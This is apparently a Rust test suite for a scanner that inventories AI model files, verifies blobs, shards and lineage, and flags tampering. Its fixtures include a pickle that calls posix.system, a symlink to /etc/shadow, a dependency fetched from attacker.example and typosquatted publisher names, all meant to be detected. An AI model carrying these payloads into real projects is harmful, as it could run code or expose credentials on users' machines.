mod each_rule;

use std::collections::BTreeMap;

use sha1::Sha1;
use sha2::{Digest as _, Sha256};

use wb_model::{Component, ComponentKind, Inventory, Observation, RelationshipKind};

use super::look_alike_name::look_alike;
use super::publishers::{MODELS, PUBLISHERS};
use crate::testing::Scene;

const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";

/// A safetensors file of F32 tensors, each full of one number.
fn safetensors(tensors: &[(&str, &[u64], f32)]) -> Vec<u8> {
    let (mut header, mut data) = (String::from("{"), Vec::new());
    for (name, shape, value) in tensors {
        let count: u64 = shape.iter().product();
        let start = data.len();
        (0..count).for_each(|_| data.extend(value.to_le_bytes()));
        let comma = if header.len() > 1 { "," } else { "" };
        header.push_str(&format!(
            "{comma}\"{name}\":{{\"dtype\":\"F32\",\"shape\":{shape:?},\"data_offsets\":[{start},{}]}}",
            data.len()
        ));
    }
    header.push('}');
    header.push_str(&" ".repeat(header.len().next_multiple_of(8) - header.len()));
    [&(header.len() as u64).to_le_bytes()[..], header.as_bytes(), &data].concat()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn sha256(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

fn git_blob(bytes: &[u8]) -> String {
    hex(&Sha1::digest([format!("blob {}\0", bytes.len()).as_bytes(), bytes].concat()))
}

const CONFIG: &str =
    r#"{"architectures":["LlamaForCausalLM"],"model_type":"llama","vocab_size":4,"hidden_size":2}"#;

fn weights() -> Vec<u8> {
    safetensors(&[
        ("model.embed_tokens.weight", &[4, 2], 1.0),
        ("model.layers.0.q_proj.weight", &[2, 2], 2.0),
    ])
}

fn model<'a>(inventory: &'a Inventory, name: &str) -> &'a Component {
    let models = inventory.components.iter().filter(|one| one.kind == ComponentKind::Model);
    let mut named: Vec<&Component> = models.filter(|one| one.name == name).collect();
    assert_eq!(named.len(), 1, "{name}: {:#?}", inventory.components);
    named.remove(0)
}

fn rules<'a>(inventory: &'a Inventory, rule: &str) -> Vec<&'a Observation> {
    inventory.observations.iter().filter(|one| one.rule_id() == format!("model/{rule}")).collect()
}

fn property<'a>(component: &'a Component, name: &str) -> &'a str {
    component.properties.get(name).map_or("", String::as_str)
}

/// A hub cache with one model; `damage` may change what its weights' blob holds.
fn cache(damage: impl Fn(&mut Vec<u8>)) -> Scene {
    let mut content = weights();
    let (name, config) = (sha256(&content), git_blob(CONFIG.as_bytes()));
    damage(&mut content);
    let root = "root/.cache/huggingface/hub/models--acme--tiny";
    Scene::new()
        .file(&format!("{root}/blobs/{name}"), content)
        .file(&format!("{root}/blobs/{config}"), CONFIG)
        .file(&format!("{root}/refs/main"), COMMIT)
        .symlink(&format!("{root}/snapshots/{COMMIT}/model.safetensors"), &format!("../../blobs/{name}"))
        .symlink(&format!("{root}/snapshots/{COMMIT}/config.json"), &format!("../../blobs/{config}"))
}

#[test]
fn a_snapshot_of_a_cache_is_one_model_of_a_known_commit() {
    let inventory = cache(|_| {}).conclude();
    let model = model(&inventory, "acme/tiny");
    assert_eq!(model.version.as_deref(), Some(COMMIT));
    assert_eq!(model.purl.as_ref().unwrap().to_string(), format!("pkg:huggingface/acme/tiny@{COMMIT}"));
    assert_eq!(property(model, "model:parameters"), "12");
    assert_eq!(property(model, "model:layout"), "hub-cache");
    assert_eq!(property(model, "model:format"), "safetensors");
    assert_eq!(property(model, "model:verdict"), "clean");
    assert!(property(model, "model:digest").starts_with("sha256:"));
    assert!(property(model, "model:tensor-digest").starts_with("blake3:"));
    assert_eq!(model.occurrences.len(), 2);
    for rule in ["blob-mismatch", "link-out-of-folder", "unreadable-model", "metadata-mismatch"] {
        assert_eq!(rules(&inventory, rule), Vec::<&Observation>::new());
    }
}

#[test]
fn one_flipped_byte_in_a_blob_of_a_cache_is_found() {
    let inventory = cache(|content| *content.last_mut().unwrap() ^= 1).conclude();
    let found = rules(&inventory, "blob-mismatch");
    assert_eq!(found.len(), 1, "{found:#?}");
    assert!(found[0].place.digest.is_some());
}

#[test]
fn a_link_that_leads_out_of_a_cache_or_nowhere_is_said() {
    let root = format!("root/.cache/huggingface/hub/models--acme--tiny/snapshots/{COMMIT}");
    let scene = cache(|_| {})
        .file("etc/shadow", "root")
        .symlink(&format!("{root}/tokenizer.json"), "/etc/shadow")
        .symlink(&format!("{root}/vocab.txt"), "../../blobs/none");
    let inventory = scene.conclude();
    let places: Vec<_> = rules(&inventory, "link-out-of-folder").iter().map(|one| &one.message).collect();
    assert_eq!(places.len(), 2, "{places:?}");
}

/// An Ollama store with one tag.
fn store(damage: impl Fn(&mut Vec<u8>), with_blob: bool) -> Scene {
    let content = weights();
    let digest = sha256(&content);
    let size = content.len();
    let manifest = format!(
        r#"{{"schemaVersion":2,"mediaType":"application/vnd.docker.distribution.manifest.v2+json","config":{{"mediaType":"application/vnd.docker.container.image.v1+json","digest":"sha256:{}","size":2}},"layers":[{{"mediaType":"application/vnd.ollama.image.model","digest":"sha256:{digest}","size":{size}}}]}}"#,
        sha256(b"{}")
    );
    let root = "root/.ollama/models";
    let mut damaged = content;
    damage(&mut damaged);
    let scene = Scene::new()
        .file(&format!("{root}/manifests/registry.example/library/tiny/latest"), manifest)
        .file(&format!("{root}/blobs/sha256-{}", sha256(b"{}")), "{}")
        .file(&format!("{root}/blobs/sha256-{}", sha256(b"nobody")), "nobody");
    if with_blob { scene.file(&format!("{root}/blobs/sha256-{digest}"), damaged) } else { scene }
}

#[test]
fn a_tag_of_a_store_is_a_model_and_its_blobs_are_checked() {
    let inventory = store(|_| {}, true).conclude();
    let tag = model(&inventory, "tiny");
    assert_eq!(property(tag, "model:layout"), "ollama");
    assert_eq!(tag.purl.as_ref().unwrap().kind(), "oci");
    let unnamed = rules(&inventory, "blob-mismatch");
    assert_eq!(unnamed.len(), 1, "{unnamed:#?}");
    assert!(unnamed[0].message.contains("no manifest"));

    let flipped = store(|content| content[20] ^= 1, true).conclude();
    assert!(rules(&flipped, "blob-mismatch").iter().any(|one| one.message.contains("its name says sha256")));
    let longer = store(|content| content.push(0), true).conclude();
    assert!(rules(&longer, "blob-mismatch").iter().any(|one| one.message.contains("bytes, it has")));
    let missing = store(|_| {}, false).conclude();
    assert!(rules(&missing, "blob-mismatch").iter().any(|one| one.message.contains("not in the store")));
}

const FIRST: &str = "model-00001-of-00002.safetensors";
const SECOND: &str = "model-00002-of-00002.safetensors";

fn sharded(root: &str, total: u64, shards: &[&str]) -> Scene {
    let index = format!(
        r#"{{"metadata":{{"total_size":{total}}},"weight_map":{{"model.embed_tokens.weight":"{FIRST}","model.layers.0.q_proj.weight":"{SECOND}"}}}}"#
    );
    let mut scene = Scene::new()
        .file(&format!("{root}/config.json"), CONFIG)
        .file(&format!("{root}/model.safetensors.index.json"), index);
    for shard in shards {
        let tensor: (&str, &[u64], f32) = match *shard {
            FIRST => ("model.embed_tokens.weight", &[4, 2], 1.0),
            SECOND => ("model.layers.0.q_proj.weight", &[2, 2], 2.0),
            _ => ("other", &[1], 3.0),
        };
        scene = scene.file(&format!("{root}/{shard}"), safetensors(&[tensor]));
    }
    scene
}

#[test]
fn shards_are_held_to_their_index() {
    let whole = sharded("models/tiny", 48, &[FIRST, SECOND]).conclude();
    assert_eq!(rules(&whole, "shard-mismatch"), Vec::<&Observation>::new());
    assert_eq!(property(model(&whole, "tiny"), "model:parameters"), "12");
    let says = |scene: Scene, word: &str| {
        let inventory = scene.conclude();
        let found = rules(&inventory, "shard-mismatch");
        assert!(found.iter().any(|one| one.message.contains(word)), "{word}: {found:#?}");
    };
    says(sharded("m", 48, &[FIRST]), "not in the folder");
    says(sharded("m", 49, &[FIRST, SECOND]), "49 bytes");
    says(sharded("m", 48, &[FIRST, SECOND, "model-00003-of-00002.safetensors"]), "does not name it");
    let wrong = sharded("m", 48, &[FIRST])
        .file(&format!("m/{SECOND}"), safetensors(&[("model.layers.1.q_proj.weight", &[2, 2], 2.0)]));
    says(wrong, "and it does not");
}

#[test]
fn the_same_weights_in_shards_and_in_one_file_are_the_same_model() {
    let inventory =
        sharded("models/tiny", 48, &[FIRST, SECOND]).file("models/one.safetensors", weights()).conclude();
    let (sharded, single) = (model(&inventory, "tiny"), model(&inventory, "one.safetensors"));
    assert_eq!(property(sharded, "model:tensor-digest"), property(single, "model:tensor-digest"));
    let same = inventory.relationships.iter().filter(|edge| edge.kind == RelationshipKind::SameAs);
    assert_eq!(same.count(), 1);
}

#[test]
fn the_same_file_twice_is_one_model_at_two_places() {
    let inventory =
        Scene::new().file("a/x.safetensors", weights()).file("b/y.safetensors", weights()).conclude();
    let model = model(&inventory, "x.safetensors");
    let places: Vec<&str> = model.occurrences.iter().map(|place| place.path.as_str()).collect();
    assert_eq!(places, ["a/x.safetensors", "b/y.safetensors"]);
    assert_eq!(property(model, "model:also-at"), "b/y.safetensors");
}

/// A base and something that is said to be a finetune of it.
fn family(tensors: &[(&str, &[u64], f32)]) -> Inventory {
    let card =
        "---\nlicense: apache-2.0\nbase_model: acme/base\nbase_model_relation: finetune\n---\n# Tuned\n";
    Scene::new()
        .file("models/acme/base/config.json", CONFIG)
        .file("models/acme/base/model.safetensors", weights())
        .file("models/other/tuned/config.json", CONFIG)
        .file("models/other/tuned/README.md", card)
        .file("models/other/tuned/model.safetensors", safetensors(tensors))
        .conclude()
}

#[test]
fn descent_is_held_to_the_tensors_of_the_base() {
    let tuned = family(&[
        ("model.embed_tokens.weight", &[4, 2], 1.0),
        ("model.layers.0.q_proj.weight", &[2, 2], 5.0),
    ]);
    let lineage = property(model(&tuned, "tuned"), "model:lineage");
    assert!(lineage.starts_with("finetune acme/base verified"), "{lineage}");
    assert!(lineage.contains("1 of 2 tensors are byte for byte"), "{lineage}");
    assert_eq!(rules(&tuned, "lineage-contradicted"), Vec::<&Observation>::new());
    let base = model(&tuned, "base").id.clone();
    let edge = |edge: &wb_model::Relationship| edge.kind == RelationshipKind::DescendantOf && edge.to == base;
    assert!(tuned.relationships.iter().any(edge));

    for other in [
        family(&[
            ("model.embed_tokens.weight", &[4, 2], 1.0),
            ("model.layers.0.q_proj.weight", &[3, 2], 5.0),
        ]),
        family(&[("conv1.weight", &[4, 2], 1.0)]),
    ] {
        assert_eq!(rules(&other, "lineage-contradicted").len(), 1);
    }
}

#[test]
fn a_base_that_is_not_there_is_a_component_by_its_name_and_unverified() {
    let card = "---\nlicense: mit\nbase_model: acme/base\ndatasets:\n- acme/words\n---\n";
    let inventory = Scene::new()
        .file("m/t/config.json", CONFIG)
        .file("m/t/README.md", card)
        .file("m/t/model.safetensors", weights())
        .conclude();
    assert!(property(model(&inventory, "t"), "model:lineage").contains("unverified"));
    assert_eq!(
        model(&inventory, "acme/base").purl.as_ref().unwrap().to_string(),
        "pkg:huggingface/acme/base"
    );
    let dataset = inventory.components.iter().find(|one| one.kind == ComponentKind::Dataset).unwrap();
    assert_eq!(dataset.name, "acme/words");
    assert!(inventory.relationships.iter().any(|edge| edge.kind == RelationshipKind::TrainedOn));
}

#[test]
fn a_pickle_that_runs_a_program_is_malicious_with_its_proof() {
    let inventory =
        Scene::new().file("app/model.pkl", b"\x80\x02cposix\nsystem\nX\x02\0\0\0id\x85R.").conclude();
    let found = rules(&inventory, "malicious-model");
    assert_eq!(found.len(), 1, "{:#?}", inventory.observations);
    assert!(found[0].message.contains("posix.system"), "{}", found[0].message);
    assert_eq!(found[0].place.path.as_deref(), Some("app/model.pkl"));
    assert!(found[0].place.digest.is_some());
    assert_eq!(property(model(&inventory, "model.pkl"), "model:verdict"), "malicious");
}

#[test]
fn a_file_that_is_cut_short_is_unreadable_and_never_silent() {
    let whole = weights();
    for cut in [9, whole.len() / 2, whole.len() - 1] {
        let inventory = Scene::new().file("m/x.safetensors", &whole[..cut]).conclude();
        let said = rules(&inventory, "unreadable-model").len() + rules(&inventory, "malicious-model").len();
        assert_eq!(said, 1, "cut at {cut}");
    }
}

#[test]
fn test_data_of_packages_is_weighed_and_is_no_model() {
    let pickle = b"\x80\x02]q\0.";
    let inventory =
        Scene::new().file("usr/lib/python3/dist-packages/numpy/tests/data/a.pkl", pickle).conclude();
    assert_eq!(inventory.components.iter().filter(|one| one.kind == ComponentKind::Model).count(), 0);
    assert_eq!(rules(&inventory, "unreadable-model"), Vec::<&Observation>::new());
    let inventory = Scene::new().file("app/estimator.pkl", pickle).conclude();
    assert_eq!(property(model(&inventory, "estimator.pkl"), "model:verdict"), "clean");
}

#[test]
fn a_pointer_in_place_of_weights_is_said() {
    let pointer =
        format!("version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 1234\n", sha256(b"weights"));
    let inventory =
        Scene::new().file("m/config.json", CONFIG).file("m/model.safetensors", pointer).conclude();
    assert_eq!(rules(&inventory, "lfs-pointer").len(), 1, "{:#?}", inventory.observations);
    assert_eq!(property(model(&inventory, "m"), "model:complete"), "false");
}

#[test]
fn a_vocabulary_beyond_its_table_is_a_mismatch() {
    let config = CONFIG.replace("\"vocab_size\":4", "\"vocab_size\":400");
    let inventory =
        Scene::new().file("m/config.json", config).file("m/model.safetensors", weights()).conclude();
    assert_eq!(rules(&inventory, "metadata-mismatch").len(), 1, "{:#?}", inventory.observations);
}

#[test]
fn remote_code_without_a_commit_is_said() {
    let config =
        r#"{"model_type":"x","architectures":["X"],"auto_map":{"AutoModel":"other/code--modeling_x.X"}}"#;
    let inventory =
        Scene::new().file("m/config.json", config).file("m/model.safetensors", weights()).conclude();
    assert_eq!(rules(&inventory, "remote-code-unpinned").len(), 1, "{:#?}", inventory.observations);
    let code = model(&inventory, "other/code").id.clone();
    let edge = |edge: &wb_model::Relationship| edge.kind == RelationshipKind::DependsOn && edge.to == code;
    assert!(inventory.relationships.iter().any(edge));
}

#[test]
fn requirements_count_where_the_folder_is_a_models() {
    let address = "dependencies:\n- pip: [evil @ https://attacker.example/evil.whl]\n";
    let of =
        |scene: Scene| rules(&scene.file("srv/x/conda.yaml", address).conclude(), "suspicious-model").len();
    let beside = |name: &str, content: &[u8]| Scene::new().file(&format!("srv/x/{name}"), content);
    assert_eq!(of(beside("MLmodel", b"flavors: {sklearn: {}}\nmodel_uuid: x\n")), 1);
    assert_eq!(of(beside("config.json", CONFIG.as_bytes()).file("srv/x/model.safetensors", weights())), 1);
    // An environment of any other program.
    assert_eq!(of(Scene::new()), 0);
    assert_eq!(of(beside("model.safetensors", &weights())), 0);
    assert_eq!(of(beside("config.json", CONFIG.as_bytes())), 0);
    let damaged = Scene::new().file("srv/x/conda.yaml", "dependencies: [").conclude();
    let told = format!("{:?}", damaged.diagnostics);
    assert!(!told.contains("conda.yaml"), "what is no model's is nobody's business: {told}");
}

#[test]
fn a_recipe_beside_a_model_says_nothing_of_it() {
    let recipe = "chat_template: chatml\nvocab_size: 32000\nmodel_type: qwen\n";
    let inventory = Scene::new()
        .file("m/config.json", CONFIG)
        .file("m/model.safetensors", weights())
        .file("m/train.yaml", recipe)
        .conclude();
    assert_eq!(rules(&inventory, "metadata-mismatch"), Vec::<&Observation>::new());
    // Nor does it make a folder of weights a model of several files.
    let inventory =
        Scene::new().file("srv/w.safetensors", weights()).file("srv/train.yaml", recipe).conclude();
    assert_eq!(property(model(&inventory, "w.safetensors"), "model:layout"), "file");
}

#[test]
fn names_that_are_almost_well_known_are_told_from_those_that_are() {
    let cases: BTreeMap<&str, Option<&str>> = BTreeMap::from([
        ("meta-llama", None),
        ("Meta-Llama", None),
        ("metallama", Some("meta-llama")),
        ("meta-1lama", Some("meta-llama")),
        ("mistralal", Some("mistralai")),
        ("mistrаlai", Some("mistralai")),
        ("rnicrosoft", Some("microsoft")),
        ("goggle", Some("google")),
        ("acme", None),
        ("apples", Some("apple")),
        ("ibm", None),
    ]);
    for (name, expected) in cases {
        assert_eq!(look_alike(name, PUBLISHERS), expected, "{name}");
    }
    assert_eq!(look_alike("llama-3-7b", MODELS), None);
    assert_eq!(look_alike("llarna-2-7b", MODELS), Some("llama-2-7b"));
}
